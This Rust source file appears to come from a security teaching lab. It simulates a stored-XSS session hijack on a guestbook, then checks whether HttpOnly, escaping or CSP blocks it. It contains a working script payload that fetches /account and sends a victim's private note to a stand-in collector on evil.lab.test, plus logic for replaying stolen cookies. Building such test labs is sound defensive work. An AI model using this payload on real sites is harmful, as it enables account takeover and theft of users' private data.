//! `hijack-xss`: a stored script steals the session cookie.
//!
//! The attacker posts a guestbook entry holding the lab's exfiltration script.
//! When the victim views the guestbook, her browser runs it only if it really
//! is a script element (escaping turns it into text) and the page's CSP allows
//! inline script; it then sends `document.cookie` (never HttpOnly cookies) to
//! the attacker's collector, and the attacker replays what arrived.
//!
//! With Chromium as the victim (`--browser chromium`) the attacker also posts
//! what a real attacker would write: a script that reads the private note with
//! `fetch('/account')` and sends it to the collector. HttpOnly does not stop
//! that one (the script never touches the cookie); only escaping and CSP do.
//! Its outcome is reported beside the verdict, which stays the cookie theft's
//! (the simulated browser's script model does not run it).

use rand::Rng;
use sessionlab_browser::{Browser, EXFILTRATE_COOKIES_TEMPLATE, ScriptEffect};

use crate::actors::{
    attacker_signs_guestbook, judge, log_in, read_own_note, replay_session_id, session_id, short,
};
use crate::evil_site::EvilSite;
use crate::lab::{RunContext, RunError};
use crate::outcome::{Actor, Verdict};
use crate::victim::{BrowserKind, Drive};

/// The payload a real attacker would write: the private note itself, read
/// with the victim's own session (no cookie needed), sent to the collector.
const NOTE_EXFILTRATION_TEMPLATE: &str = "<script>fetch('/account').then(r => r.text()).then(t => \
fetch('{collector}' + encodeURIComponent(new DOMParser().parseFromString(t, 'text/html')\
.getElementById('private-note').textContent.trim())))</script>";

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let evil = EvilSite::start()
        .await
        .map_err(|e| RunError::Lab(format!("could not start evil.lab.test: {e}")))?;
    let token = format!("{:016x}", rand::rng().random::<u64>());
    let collector = evil.url(&format!("/collect/{token}?c="));
    let payload = EXFILTRATE_COOKIES_TEMPLATE.replace("{collector}", collector.as_str());

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    evil.join(&mut attacker.network);
    attacker_signs_guestbook(ctx, &mut attacker, &payload, "with a <script> payload").await?;
    let note_token = format!("{:016x}", rand::rng().random::<u64>());
    let real_victim = ctx.target.victim_browser == BrowserKind::Chromium;
    if real_victim {
        let collector = evil.url(&format!("/collect/{note_token}?c="));
        let payload = NOTE_EXFILTRATION_TEMPLATE.replace("{collector}", collector.as_str());
        let guestbook = attacker.open(&ctx.app_url("/guestbook"), None).await?;
        let posted = attacker
            .submit_form(&guestbook, "/guestbook", &[("message", &payload)])
            .await?;
        ctx.step(
            Actor::Attacker,
            "posted a second entry: a script that reads /account with fetch() and sends the private note to the collector",
            format!("the app answered {} at {}", posted.status, posted.url.path()),
        );
    }

    let mut victim = ctx.victim_browser("victim");
    evil.join(victim.network_mut());
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    let page = victim.open(&ctx.app_url("/guestbook")).await?;
    let effects: Vec<&ScriptEffect> = page
        .scripts
        .iter()
        .filter(|e| match e {
            ScriptEffect::Exfiltrated { request, .. } => request.as_str().contains(&token),
            ScriptEffect::BlockedByCsp { .. } => true,
            ScriptEffect::Ignored { .. } | ScriptEffect::SubmittedForm { .. } => false,
        })
        .collect();
    let browser_did = describe_effects(&effects, &page.body);
    let viewed = ctx.step(
        Actor::Victim,
        format!("{} logged in and viewed the guestbook", ctx.victim.username),
        &browser_did,
    );
    let note_payload = if real_victim {
        note_exfiltration_outcome(ctx, &evil, &note_token, &note)
    } else {
        String::new()
    };
    let exfiltrated = effects
        .iter()
        .any(|e| matches!(e, ScriptEffect::Exfiltrated { .. }));
    let verdict = if exfiltrated {
        cookie_theft(ctx, &evil, &attacker, &token, &note).await?
    } else {
        Verdict::blocked(browser_did, viewed)
    };
    Ok(if real_victim {
        verdict.also(&note_payload)
    } else {
        verdict
    })
}

/// What the note-exfiltration payload achieved, as the attacker's collector shows it.
fn note_exfiltration_outcome(
    ctx: &mut RunContext,
    evil: &EvilSite,
    token: &str,
    note: &str,
) -> String {
    let reports = evil.collected(token);
    let got_note = reports.iter().any(|r| r.data == note);
    let outcome = if got_note {
        format!(
            "the fetch('/account') payload sent {}'s private note to the collector (HttpOnly does not stop it)",
            ctx.victim.username
        )
    } else {
        format!(
            "the fetch('/account') payload sent no note: the collector received {} report(s), none of them the note",
            reports.len()
        )
    };
    ctx.step(
        Actor::Attacker,
        "read the collector for the fetch('/account') payload",
        &outcome,
    );
    outcome
}

/// The cookie-stealing payload's verdict once its script ran: what reached the collector, replayed.
async fn cookie_theft(
    ctx: &mut RunContext,
    evil: &EvilSite,
    attacker: &Browser,
    token: &str,
    note: &str,
) -> Result<Verdict, RunError> {
    // The attacker's own browser ran the payload too when it showed the guestbook:
    // their own cookie is in the collection, and is not worth replaying.
    let own_id = session_id(ctx, attacker);
    let reports = evil.collected(token);
    let mut stolen: Vec<String> = Vec::new();
    for report in &reports {
        for (name, value) in report
            .data
            .split(';')
            .filter_map(|pair| pair.trim().split_once('='))
        {
            let value = value.to_string();
            if name == ctx.target.session_cookie
                && Some(&value) != own_id.as_ref()
                && !stolen.contains(&value)
            {
                stolen.push(value);
            }
        }
    }
    let received: Vec<String> = reports
        .iter()
        .map(|r| format!("{:?}", short(&r.data)))
        .collect();
    let collected = ctx.step(
        Actor::Attacker,
        "read the collector on evil.lab.test",
        format!(
            "received {} report(s): {}",
            reports.len(),
            received.join(", ")
        ),
    );
    if stolen.is_empty() {
        let evidence = format!(
            "the script ran, but the collector received no session cookie of the victim: `{}` is HttpOnly, invisible to document.cookie",
            ctx.target.session_cookie
        );
        return Ok(Verdict::blocked(evidence, collected));
    }

    // Several reports may have arrived (the victim's browser may hold several
    // cookies of that name); the attacker tries each until one opens the account.
    let mut probe = None;
    for stolen_id in &stolen {
        let account = ctx.app_url("/account");
        let attempt = replay_session_id(ctx, stolen_id, account).await?;
        let shows = attempt.shows(&ctx.target, note);
        probe = Some(attempt);
        if shows {
            break;
        }
    }
    let probe = probe.expect("at least one stolen ID was tried");
    Ok(judge(
        ctx,
        "replayed the stolen session cookie on /account",
        &probe,
        note,
        "the collector received the victim's session cookie from document.cookie",
        "replayed, it",
    ))
}

/// What the victim's browser did with the attacker's entry, in one line.
fn describe_effects(effects: &[&ScriptEffect], body: &str) -> String {
    if let Some(ScriptEffect::Exfiltrated {
        document_cookie, ..
    }) = effects
        .iter()
        .find(|e| matches!(e, ScriptEffect::Exfiltrated { .. }))
    {
        return format!(
            "the script ran and sent document.cookie = {document_cookie:?} to evil.lab.test"
        );
    }
    if let Some(ScriptEffect::BlockedByCsp { policy }) = effects
        .iter()
        .find(|e| matches!(e, ScriptEffect::BlockedByCsp { .. }))
    {
        return format!(
            "the browser refused to run the inline script: Content-Security-Policy `{policy}`"
        );
    }
    let lowered = body.to_ascii_lowercase();
    if ["&lt;script", "&#60;script", "&#x3c;script"]
        .iter()
        .any(|escaped| lowered.contains(escaped))
    {
        return "the payload reached the page as escaped text, so there was no script to run"
            .into();
    }
    "no script from the payload was on the page".into()
}
